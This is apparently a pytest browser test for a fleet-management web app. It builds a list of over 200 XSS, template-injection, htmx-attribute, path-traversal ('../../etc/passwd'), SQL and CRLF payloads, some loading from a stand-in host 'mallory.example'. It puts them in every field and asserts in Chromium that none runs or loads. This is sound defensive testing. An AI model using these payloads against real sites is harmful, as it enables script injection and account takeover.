"""T17: what a device or a person writes is shown, never run.

Every payload is put into every field that a device or a person can fill; a browser opens every page; nothing may run,
load, or break the policy. The payloads are made here, from what starts a script in HTML, in attributes, in SVG, in
URLs, in templates and in the attributes that htmx reads.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import msgspec
import pytest

from fleet import events as facts
from fleet.connectivity import Mode, Reach
from fleet.devices import CredentialKind, CredentialView, DeviceView
from fleet.drift import Difference
from fleet.node import Actual, Desired, Endpoint, Hardware, Inventory, Kind, Lifecycle, Node, SupplyChain
from fleet.reading import Position
from tests.web.browser import assert_clean, chromium, needs_chromium, page_of, sign_in
from tests.web.conftest import Server, served  # noqa: F401 - the fixture
from tests.web.desk import Desk
from tests.web.island import NOW_NS, PASSWORD, Island, People
from web.ports import (
    AccountView,
    Attention,
    Glass,
    NodeRow,
    QuarantineItem,
    RecordView,
    Role,
    RosterView,
    Severity,
    SourceView,
    Value,
)

pytestmark = [pytest.mark.trial, pytest.mark.browser, needs_chromium, pytest.mark.xdist_group("browser")]

RUN = "window.__ran=1"
AWAY = "//mallory.example/"
TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "details open",
    "input autofocus",
    "iframe",
    "marquee",
    "object data=x",
)
ACTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerover", "onanimationstart")
BREAKS = ("", '"', "'", "`", "-->", "]]>", "</title>", "</script>", "</textarea>", "</pre>", "</svg>", "</select>")
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "data:text/html,<script>", "vbscript:")


def payloads() -> list[str]:
    starts = zip(itertools.cycle(BREAKS), itertools.product(TAGS, ACTS), strict=False)
    made = [f"{out}<{tag} {act}={RUN}>" for out, (tag, act) in starts]
    made += [f"{out}><script>{RUN}</script>" for out in BREAKS]
    made += [f"x{end} {act}={end}{RUN}{end} x={end}" for end in ('"', "'", "`", "") for act in ACTS]
    made += [f'"{gap}{act}={RUN}{gap}x="' for gap in ("/", "\t", "\x0c") for act in ACTS]
    made += [f"{scheme}{RUN}" for scheme in SCHEMES]
    made += [f'"><a href="{scheme}{RUN}" autofocus>x</a>' for scheme in SCHEMES]
    made += [
        f'"><div hx-{verb}="{at}" hx-trigger="load">'
        for verb in ("get", "post", "on:load", "vals", "sse:connect")
        for at in (f"javascript:{RUN}", f"js:{RUN}", AWAY)
    ]
    made += [f'"><div data-hx-on:htmx:after:init="{RUN}" hx-trigger="load[{RUN}]">', f"<hx-partial hx-on::load={RUN}>"]
    made += [f"{{{{ {one} }}}}" for one in ("7*7", "config", "''.__class__", "cycler.__init__.__globals__")]
    made += [f"{{% {one} %}}" for one in ("raw", "include 'base.html'", "set x = 1", "endblock")]
    made += [f"${{{RUN}}}", f"#{{{RUN}}}", f"<%= {RUN} %>", f"[[{RUN}]]", "{{constructor.constructor('x')()}}"]
    made += [f'<style>@import "{AWAY}{number}.css"</style>' for number in range(4)]
    made += [f"<link rel={kind} href={AWAY}>" for kind in ("stylesheet", "preload", "prefetch", "manifest")]
    made += [f'<base href="{AWAY}">', f'<meta http-equiv=refresh content="0;url={AWAY}">']
    made += [f'<form action="{AWAY}"><button autofocus>', f'<img src="{AWAY}x.png">', f"<image href={AWAY}>"]
    made += [f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>"]
    made += [f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<svg><script>{RUN}</script></svg>"]
    made += [f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{RUN}>x</a></svg>"]
    made += [f"<template><script>{RUN}</script></template>", f"<iframe srcdoc='<script>parent.{RUN}</script>'>"]
    made += [f"<embed src=javascript:{RUN}>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<ScRiPt>{RUN}</sCrIpT>"]
    made += [chr(code) + f"<img src=x onerror={RUN}>" for code in (0x202E, 0x200B, 0xFEFF, 0x2028, 0x7F, 0x9B, 0xFFFD)]
    made += [f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"]
    made += [f"&lt;script&gt;{RUN}&lt;/script&gt;", f"\\u003cscript\\u003e{RUN}", f"%3Cscript%3E{RUN}%3C/script%3E"]
    made += ["../../etc/passwd", "' OR 1=1 --", "\r\nset-cookie: x=1", "constructor", "__proto__", "x" * 3000]
    return list(dict.fromkeys(made))


PAYLOADS = payloads()


TOGETHER = 12  # payloads on one page of a list; a page of a node holds one


def infect(island: Island, ids: list[str], written: list[str]) -> None:
    """Each payload in every field that a device or a person can fill. What the box keeps as an id stays an id."""
    for held in (island.rows, island.nodes_held, island.texts, island.unclaimed, island.claimed, island.items):
        held.clear()  # type: ignore[attr-defined]
    island.records, island.log = [], []
    island.name = written[0][:60]
    for number, (node_id, payload) in enumerate(zip(ids, written, strict=False)):
        _infect(island, number, node_id, payload)


def _infect(island: Island, number: int, node_id: str, payload: str) -> None:
    value = Value(metric=payload, value=3.0, at_ns=NOW_NS, source=payload)
    named: dict[str, Any] = {"id": node_id, "name": payload, "tags": (payload, payload), "kind": Kind.EDGE}
    figures: dict[str, Any] = {
        "battery": value,
        "rtt": value,
        "loss": value,
        "position": Position(58.3 + number / 100, 11.2),
    }
    island.rows[node_id] = NodeRow(
        **named,
        **figures,
        version=payload,
        address=payload,
        seen_via=payload,
        seen_ns=NOW_NS,
        mode=Mode.LIVE,
        reach=Reach.ONLINE,
    )
    island.nodes_held[node_id] = Node(
        **named,
        domain_id=payload,
        endpoints=(Endpoint(address=payload, role=payload),),
        desired=Desired(target_version=payload + "1"),
        actual=Actual(reported_version=payload, inventory=Inventory(cpu=payload)),
        supply_chain=SupplyChain(hardware=Hardware(serial=payload, manufacturer=payload, model=payload)),
        lifecycle=Lifecycle(reason=payload),
    )
    island.texts[node_id] = payload
    spoken: dict[str, Any] = dict.fromkeys(("key", "intake", "address", "name", "sample"), payload)
    source = SourceView(**spoken, node_id=None, first_ns=1, last_ns=NOW_NS, records=3)
    island.unclaimed[payload] = source
    island.claimed[payload] = msgspec.structs.replace(source, node_id=node_id)
    island.records.append(
        RecordView(id=number + 1, at_ns=NOW_NS, source=payload, text=payload, marks=(payload,), node_id=node_id)
    )
    bad: dict[str, Any] = dict.fromkeys(("intake", "source", "reason", "text"), payload)
    item = QuarantineItem(**bad, id=2 * number + 1, at_ns=NOW_NS, size=9, times=2, outside=True)
    island.items[item.id] = item
    island.items[item.id + 1] = msgspec.structs.replace(item, id=item.id + 1, settled_ns=NOW_NS, decision=payload)
    for kind in facts.KINDS.values():
        body = kind(*(_filled(kind, name, payload) for name in kind.__struct_fields__))
        island._fact(node_id if len(island.log) % 2 else payload, body)


def _filled(kind: type[facts.Body], field: str, payload: str) -> object:
    said = kind.__annotations__[field]
    if said.startswith("tuple[tuple["):
        return (tuple(payload if one == "str" else 5 for one in said[12:].partition("]")[0].split(", ")),)
    if said == "str":
        return payload
    return b"<b>" if said == "bytes" else (payload,) if said.startswith("tuple") else False if said == "bool" else 5


def infect_devices(desk: Desk, written: list[str]) -> None:
    """Names that devices give themselves, and words of whoever may write of them."""
    for payload in written:
        shown: dict[str, Any] = dict.fromkeys(("label", "made_by", "used_from"), payload)
        one = CredentialView(**shown, id="01C", kind=CredentialKind.PASSWORD, made_ns=1, used_ns=NOW_NS)
        named: dict[str, Any] = dict.fromkeys(("name", "enrolled_by"), payload)
        device = DeviceView(**named, node_id="01N", gateway=True, enrolled_ns=1, credentials=(one,))
        desk.devices = [*desk.devices[-TOGETHER + 1 :], device]
        desk.codes = [msgspec.structs.replace(desk.codes[0], name=payload, made_by=payload)]


def infect_people(people: People, written: list[str]) -> None:
    """Accounts as a hub might send them, whatever it means by that."""
    first = written[0]
    people.held = {name: one for name, one in people.held.items() if not one.origin}
    for payload in written:
        named: dict[str, Any] = dict.fromkeys(("name", "tenant", "origin", "changed_by"), payload)
        people.held[payload] = AccountView(
            **named, role=Role.VIEWER, created_ns=NOW_NS, disabled=False, sites=(payload,)
        )
    people.list = RosterView(version=1, made_ns=1, hub=first, clashes=tuple(written), problems={first: first})
    people.glass = Glass(used_ns=1, address=first, until_ns=NOW_NS * 2)


class Infected(Island):
    """The fields that the island computes by itself, filled too."""

    written: tuple[str, ...] = ()

    async def site(self, who: Any, query: Any) -> Any:
        view = await super().site(who, query)
        ids = list(self.rows)
        lines = [
            Attention(severity=Severity.ACT, words=payload, since_ns=1, name=payload, node_id=node_id)
            for node_id, payload in zip(ids, self.written, strict=False)
        ]
        return msgspec.structs.replace(view, site=self.written[0], attention=tuple(lines), tags=self.written)

    async def node(self, who: Any, node_id: str) -> Any:
        view = await super().node(who, node_id)
        if view is None:
            return None
        payload = view.row.name
        value = Value(metric=payload, value=3.0, at_ns=NOW_NS, source=payload)
        found = (Difference(pointer=payload, wanted=payload, found=payload),)
        return msgspec.structs.replace(view, values=(value,), drift=found, metrics=(payload, "rtt_ms"))

    async def intake(self, who: Any) -> Any:
        view = await super().intake(who)
        lines = [
            msgspec.structs.replace(
                view.lines[0], intake=payload, address=payload, refused={payload: 3}, problem=problem
            )
            for payload in self.written
            for problem in (None, payload)
        ]
        return msgspec.structs.replace(view, lines=tuple(lines), storage_problem=self.written[0])


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as started:
        yield started


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) >= 200


def test_the_ear_hears_what_runs_and_what_the_policy_stops(browser: Any, served: Server) -> None:  # noqa: F811
    with page_of(browser, served.url) as page:
        page.set_content(f"<img src=x onerror={RUN}>")
        page.wait_for_timeout(200)
        assert page.evaluate("window.__ran") == 1
        page.goto(f"{served.url}/login")
        page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.__ran=1>')")
        page.wait_for_timeout(200)
        assert page.evaluate("window.__ran") is None
        assert page.evaluate("window.__heard") != []


@pytest.mark.parametrize("part", range(2))
def test_nothing_that_is_written_ever_runs(browser: Any, part: int, served: Server) -> None:  # noqa: F811
    island: Any = served.island
    island.__class__ = Infected
    ids = list(island.rows)
    mine = PAYLOADS[part::2]
    with page_of(browser, served.url) as page:
        sign_in(page, served.url, "alice", PASSWORD)
        foreign: list[str] = []
        page.on("request", lambda one: foreign.append(one.url) if not one.url.startswith(served.url) else None)
        page.on("dialog", lambda dialog: (foreign.append("dialog"), dialog.dismiss()))
        for first in range(0, len(mine), TOGETHER):
            written = mine[first : first + TOGETHER]
            island.written = tuple(written)
            infect(island, ids, written)
            infect_people(served.people, written)
            assert isinstance(island.devices, Desk)
            infect_devices(island.devices, written)
            paths = ["/", "/intake", "/devices", "/quarantine", "/quarantine?settled=1", "/journal?limit=500"]
            paths += [f"/nodes/{node_id}" for node_id in island.rows]
            paths += ["/account", "/audit?limit=500"]
            paths += [f"/audit?person={quote(payload[:64], safe='')}" for payload in written[:1]]
            paths += [f"/journal?subject={quote(payload[:120], safe='')}" for payload in written[:1]]
            paths += [f"/?text={quote(payload[:120], safe='')}" for payload in written[:1]]
            for path in paths:
                page.goto(served.url + path, wait_until="load")
                if path == "/":  # once more as a live part that htmx puts in place
                    page.evaluate("htmx.trigger(document.body, 'stale')")
                    page.wait_for_timeout(60)
                assert page.evaluate("window.__ran") is None, (path, written)
                assert page.url.startswith(served.url), (path, written)
        assert foreign == []
        assert_clean(page)
